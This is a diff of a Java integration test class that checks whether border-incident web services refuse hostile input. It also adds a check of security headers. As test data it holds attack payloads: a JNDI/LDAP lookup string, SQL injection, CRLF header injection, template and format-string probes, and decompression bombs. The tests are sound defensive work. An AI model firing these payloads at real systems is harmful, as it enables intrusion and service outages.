@@ -103,24 +103,21 @@ class HostileInputIT {
         bodies.put("a field twice", "{\"unit\":\"96.960\",\"unit\":\"11\"}".getBytes(UTF_8));
         bodies.put("a name of 1 MB", ("{\"" + "n".repeat(1_000_000) + "\":1}").getBytes(UTF_8));
         bodies.put("text of 10 MB", ("{\"note\":\"" + "x".repeat(10_000_000) + "\"}").getBytes(UTF_8));
-        return TAKES.keySet().stream()
-                .flatMap(service -> bodies.entrySet().stream()
-                        .map(body -> DynamicTest.dynamicTest(
-                                service + ": " + body.getKey(),
-                                () -> assertRefused(post(service, "", "application/json", body.getValue())))));
+        return TAKES.keySet().stream().flatMap(service -> bodies.entrySet().stream()
+                .map(body -> DynamicTest.dynamicTest(
+                        service + ": " + body.getKey(),
+                        () -> assertRefused(post(service, "", "application/json", body.getValue())))));
     }
 
     @TestFactory
     Stream<DynamicTest> refusesNumbersThatNobodyCanCount() {
         List<String> numbers = List.of("1e999", "-1e999", "1e99999999", "9".repeat(1_000), "NaN", "0x10", "1_000");
         return TAKES.keySet().stream()
-                .flatMap(service -> numberFields(records.get(service)).stream()
-                        .flatMap(field -> numbers.stream()
-                                .map(number -> DynamicTest.dynamicTest(
-                                        service + ": " + field + " of "
-                                                + number.substring(0, Math.min(12, number.length())),
-                                        () -> assertRefused(
-                                                post(service, "", "application/json", with(service, field, number)))))));
+                .flatMap(service -> numberFields(records.get(service)).stream().flatMap(field -> numbers.stream()
+                        .map(number -> DynamicTest.dynamicTest(
+                                service + ": " + field + " of " + number.substring(0, Math.min(12, number.length())),
+                                () -> assertRefused(
+                                        post(service, "", "application/json", with(service, field, number)))))));
     }
 
     @TestFactory
@@ -130,23 +127,21 @@ class HostileInputIT {
         bodies.put("500 MB of empty lines", zipped("\n", 500_000_000));
         bodies.put("no gzip", "{}\n".getBytes(UTF_8));
         bodies.put("gzip that breaks off", Arrays.copyOf(zipped("{}\n", 3_000), 20));
-        return TAKES.keySet().stream()
-                .flatMap(service -> bodies.entrySet().stream()
-                        .map(body -> DynamicTest.dynamicTest(
-                                service + ": " + body.getKey(),
-                                () -> assertRefused(post(
-                                        service,
-                                        "/batch",
-                                        "application/x-ndjson\r\nContent-Encoding: gzip",
-                                        body.getValue())))));
+        return TAKES.keySet().stream().flatMap(service -> bodies.entrySet().stream()
+                .map(body -> DynamicTest.dynamicTest(
+                        service + ": " + body.getKey(),
+                        () -> assertRefused(post(
+                                service,
+                                "/batch",
+                                "application/x-ndjson\r\nContent-Encoding: gzip",
+                                body.getValue())))));
     }
 
     /** What came whole is kept and answered; the last line says that there was more. */
     @Test
     void saysWhereABatchThatIsTooLongWasCut() {
         byte[] body = zipped("{}\n", 60_000);
-        Reply reply =
-                post(Service.BORDER_INCIDENTS, "/batch", "application/x-ndjson\r\nContent-Encoding: gzip", body);
+        Reply reply = post(Service.BORDER_INCIDENTS, "/batch", "application/x-ndjson\r\nContent-Encoding: gzip", body);
         assertEquals(200, reply.status());
         assertTrue(reply.body().contains("{\"line\":10000,\"status\":400"), "every line has an answer");
         assertTrue(reply.body().contains("{\"line\":10001,\"status\":413"), "the rest is refused");
@@ -177,8 +172,7 @@ class HostileInputIT {
         return odd.stream()
                 .map(path -> DynamicTest.dynamicTest(
                         path.substring(0, Math.min(60, path.length())),
-                        () -> assertRefused(
-                                RawHttp.send(border(), RawHttp.head("GET " + path, null) + "\r\n"))));
+                        () -> assertRefused(RawHttp.send(border(), RawHttp.head("GET " + path, null) + "\r\n"))));
     }
 
     @TestFactory
@@ -198,16 +192,45 @@ class HostileInputIT {
         requests.put("a method that is none", RawHttp.head("FETCH /api/v1/incidents", token) + "\r\n");
         requests.put("TRACE", RawHttp.head("TRACE /api/v1/incidents", token) + "\r\n");
         requests.put(
-                "a header in the address", RawHttp.head("GET /api/v1/incidents?unit=%0d%0aX-Evil:%20yes", token) + "\r\n");
+                "a header in the address",
+                RawHttp.head("GET /api/v1/incidents?unit=%0d%0aX-Evil:%20yes", token) + "\r\n");
         requests.put(
                 "30 MB of chunks without an end",
                 post + "Transfer-Encoding: chunked\r\n\r\na\r\n{\"note\": \"\r\n"
                         + ("100000\r\n" + "x".repeat(0x100000) + "\r\n").repeat(30));
-        return requests.entrySet().stream().map(each -> DynamicTest.dynamicTest(each.getKey(), () -> {
-            Reply reply = RawHttp.send(border(), each.getValue());
-            assertRefused(reply);
-            assertFalse(reply.head().contains("x-evil"), reply::head);
-        }));
+        return requests.entrySet().stream()
+                .map(each -> DynamicTest.dynamicTest(each.getKey(), () -> {
+                    Reply reply = RawHttp.send(border(), each.getValue());
+                    assertRefused(reply);
+                    assertFalse(reply.head().contains("x-evil"), reply::head);
+                }));
+    }
+
+    /** HSTS over TLS alone, which this is not. */
+    @Test
+    void saysInEveryAnswerWhatABrowserMayDoWithIt() {
+        TAKES.forEach((service, path) -> Stream.of(
+                        calls.get(token, service, path + "?limit=1"),
+                        calls.get(null, service, path),
+                        calls.get(token, service, "/nowhere"),
+                        calls.get(null, service, "/q/health"))
+                .map(answer -> answer.response().headers())
+                .forEach(headers -> assertAll(
+                        service.code(),
+                        () -> assertEquals(
+                                "nosniff",
+                                headers.firstValue("X-Content-Type-Options").orElse("")),
+                        () -> assertEquals(
+                                "no-store", headers.firstValue("Cache-Control").orElse("")),
+                        () -> assertEquals(
+                                "default-src 'none'; frame-ancestors 'none'",
+                                headers.firstValue("Content-Security-Policy").orElse("")),
+                        () -> assertEquals(
+                                "no-referrer",
+                                headers.firstValue("Referrer-Policy").orElse("")),
+                        () -> assertTrue(
+                                headers.firstValue("Strict-Transport-Security").isEmpty()),
+                        () -> assertTrue(headers.firstValue("Server").isEmpty()))));
     }
 
     @Test
@@ -226,7 +249,8 @@ class HostileInputIT {
         assertAll(
                 () -> assertEquals(
                         408,
-                        RawHttp.send(border(), head + "Content-Length: 100\r\n\r\n{").status()),
+                        RawHttp.send(border(), head + "Content-Length: 100\r\n\r\n{")
+                                .status()),
                 () -> assertEquals(
                         408,
                         RawHttp.send(border(), head + "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n")
@@ -247,19 +271,19 @@ class HostileInputIT {
                 "${jndi:ldap://example.com/a}",
                 "%s%n \\u0027 \\x00 {{7*7}}",
                 "a\tb\nc");
-        return TAKES.keySet().stream()
-                .flatMap(service -> texts.stream()
-                        .map(text -> DynamicTest.dynamicTest(
-                                service + ": " + text, () -> assertTrue(keeps(service, text) > 0, "no field takes text"))));
+        return TAKES.keySet().stream().flatMap(service -> texts.stream()
+                .map(text -> DynamicTest.dynamicTest(
+                        service + ": " + text, () -> assertTrue(keeps(service, text) > 0, "no field takes text"))));
     }
 
     @Test
     void takesTextInFiltersForTextToo() {
-        TAKES.forEach((service, path) -> Stream.of("unit", "kind", "country", "indicator", "state").forEach(field -> {
-            Answer answer = calls.get(token, service, path + "?limit=1&" + field + "=%27%20or%201%3D1%20--%20");
-            assertTrue(answer.status() == 200 || answer.status() == 400, answer::toString);
-            assertFalse(INSIDE.matcher(answer.body()).find(), answer::toString);
-        }));
+        TAKES.forEach((service, path) -> Stream.of("unit", "kind", "country", "indicator", "state")
+                .forEach(field -> {
+                    Answer answer = calls.get(token, service, path + "?limit=1&" + field + "=%27%20or%201%3D1%20--%20");
+                    assertTrue(answer.status() == 200 || answer.status() == 400, answer::toString);
+                    assertFalse(INSIDE.matcher(answer.body()).find(), answer::toString);
+                }));
         Answer none = calls.get(token, Service.BORDER_INCIDENTS, "/api/v1/incidents?unit=%27%20or%201%3D1%20--%20");
         assertEquals("{\"items\":[]}", none.body());
     }
@@ -270,13 +294,15 @@ class HostileInputIT {
         for (String field : textFields(records.get(service))) {
             ObjectNode body = example(service);
             body.put(field, text);
-            Answer answer =
-                    calls.send(token, service, "POST", TAKES.get(service), "application/json", body.toString());
+            Answer answer = calls.send(token, service, "POST", TAKES.get(service), "application/json", body.toString());
             if (answer.status() == 201) {
                 assertEquals(text, answer.json().path(field).asText(), () -> service + " " + field);
-                String again = TAKES.get(service) + "/" + answer.json().path("id").asText();
+                String again =
+                        TAKES.get(service) + "/" + answer.json().path("id").asText();
                 assertEquals(
-                        text, calls.get(token, service, again).json().path(field).asText(), () -> service + " " + field);
+                        text,
+                        calls.get(token, service, again).json().path(field).asText(),
+                        () -> service + " " + field);
                 kept++;
             } else {
                 assertEquals(400, answer.status(), () -> field + ": " + answer);
